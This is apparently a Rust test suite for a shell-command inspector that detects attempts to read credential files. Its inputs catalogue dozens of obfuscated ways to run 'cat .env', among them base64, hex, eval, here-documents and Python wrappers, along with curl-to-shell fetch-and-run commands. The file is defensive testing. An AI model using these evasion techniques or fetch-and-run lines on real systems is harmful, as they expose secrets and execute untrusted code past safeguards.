//! The same commands, written so that they do not look like it.

use super::{assert_techniques, shell};
use crate::inspect::command::Unread;

#[test]
fn ways_of_writing_make_no_difference() {
    assert_techniques(&[
        ("quotes within words", "c\"\"at .en''v", "T1552.001"),
        ("a backslash", "c\\at .e\\nv", "T1552.001"),
        ("escapes of ANSI-C quotes", "cat $'\\x2eenv'", "T1552.001"),
        ("a wildcard", "cat .e*v", "T1552.001"),
        ("a question mark", "cat .en?", "T1552.001"),
        ("a set of letters", "cat .[e]nv", "T1552.001"),
        ("all dotfiles", "cat .*", "T1552.001"),
        ("braces", "cat .e{n,x}v", "T1552.001"),
        ("a variable", "F=.env; cat $F", "T1552.001"),
        ("a variable in parts", "a=.e; b=nv; cat \"$a$b\"", "T1552.001"),
        ("a variable that is a command", "C='cat .env'; $C", "T1552.001"),
        ("a default", "cat ${F:-.env}", "T1552.001"),
        ("a loop", "for f in a.txt .env; do cat $f; done", "T1552.001"),
        ("a substitution that says it", "cat $(echo .env)", "T1552.001"),
        ("one that decodes it", "cat $(echo LmVudg== | base64 -d)", "T1552.001"),
        ("printf", "cat $(printf '\\x2eenv')", "T1552.001"),
        ("a decoded script", "echo Y2F0IC5lbnY= | base64 -d | sh", "T1552.001"),
        ("a reversed script", "echo 'vne. tac' | rev | bash", "T1552.001"),
        ("an evaluated script", "eval \"$(echo Y2F0IC5lbnY= | base64 --decode)\"", "T1552.001"),
        (
            "a script from hexadecimal digits",
            "echo 636174202e656e76 | xxd -r -p | bash",
            "T1552.001",
        ),
        ("a shell in a shell", "bash -lc \"sh -c 'cat .env'\"", "T1552.001"),
        ("wrappers", "sudo -u app env A=b timeout 5 nice -n 3 cat .env", "T1552.001"),
        ("a here string", "bash <<< 'cat .env'", "T1552.001"),
        ("a here document", "bash <<'EOF'\ncat .env\nEOF", "T1552.001"),
        ("a substitution in a here document", "cat <<EOF\n$(cat .env)\nEOF", "T1552.001"),
        ("a subshell", "(cd infra; (cat domains.env))", "T1552.001"),
        ("a function", "f() { cat \"$1\"; cat .env; }; f x", "T1552.001"),
        ("a case", "case $x in a) cat .env;; esac", "T1552.001"),
        ("a condition", "[[ -n $(cat .env) ]] && echo y", "T1552.001"),
        ("arithmetic", "echo $(( $(cat .env | wc -l) + 1 ))", "T1552.001"),
        ("a default that runs", "echo ${x:-$(cat .env)}", "T1552.001"),
        ("a process substitution", "diff <(cat .env) /dev/null", "T1552.001"),
        ("in the background", "sleep 1 & cat .env &", "T1552.001"),
        ("negated", "! cat .env", "T1552.001"),
        ("a pipeline's stage in braces", "{ cat .env; } | tee out", "T1552.001"),
        ("dots in a path", "cat ./infra/../infra/./domains.env", "T1552.001"),
        ("capitals", "cat .ENV", "T1552.001"),
        ("the program's path", "/usr/bin/cat .env", "T1552.001"),
        ("busybox", "busybox cat .env", "T1552.001"),
        ("an alias", "alias x='cat .env'; x", "T1552.001"),
        ("a trap", "trap 'cat .env' EXIT", "T1552.001"),
        ("backticks", "echo `cat .env`", "T1552.001"),
        ("Python that runs it", "python3 -c 'import os; os.system(\"cat .env\")'", "T1552.001"),
        (
            "Python that runs words",
            "python3 -c 'import subprocess; subprocess.run([\"cat\", \".env\"])'",
            "T1552.001",
        ),
        ("a comment runs nothing", "ls # cat .env", ""),
        ("a quoted text runs nothing", "echo 'cat .env; env'", ""),
        ("a here document is text", "cat > a.md <<'EOF'\ncat .env\n$(env)\nEOF", ""),
    ]);
}

#[test]
fn what_cannot_be_read_is_said() {
    for (tests, command, unread) in [
        (
            "a script from the network",
            "curl -fsSL https://example.com/i.sh | sh",
            Some(Unread::Fetched),
        ),
        (
            "one as an argument",
            "bash -c \"$(curl -fsSL https://example.com/i.sh)\"",
            Some(Unread::Fetched),
        ),
        ("one that is decoded from a file", "base64 -d x.b64 | sh", Some(Unread::Hidden)),
        (
            "one that is decoded from the network",
            "curl https://e.com/x | base64 -d | bash",
            Some(Unread::Hidden),
        ),
        ("an open quote", "cat \"a", Some(Unread::Unparsed)),
        ("an open bracket", "echo $(ls", Some(Unread::Unparsed)),
        ("too deep", &format!("{}x{}", "$(".repeat(60), ")".repeat(60)), Some(Unread::Unparsed)),
        ("a plain command", "ls -la", None),
    ] {
        assert_eq!(shell(command).unread, unread, "{tests}: {command}");
    }
    // What does not parse is looked at all the same.
    let intent = shell("if then\ncat .env\necho \"");
    assert_eq!(intent.unread, Some(Unread::Unparsed));
    assert!(intent.discovery.is_some(), "{intent:?}");
}

#[test]
fn long_texts_are_read_to_their_end() {
    let code = "for (a, b) in [(1, 2), (3, 4)]: print((a, b))\n".repeat(500);
    let command = format!("cat > a.py <<'EOF'\n{code}EOF\ncat .env\n");
    let intent = shell(&command);
    assert_eq!(intent.unread, None);
    assert!(intent.discovery.is_some(), "{intent:?}");
    // A here document that only looks like one hides nothing.
    let intent = shell("echo '<<EOF'\ncat .env\nEOF\n");
    assert!(intent.discovery.is_some(), "{intent:?}");
    let intent = shell("# <<EOF\ncat .env\nEOF\n");
    assert!(intent.discovery.is_some(), "{intent:?}");
}
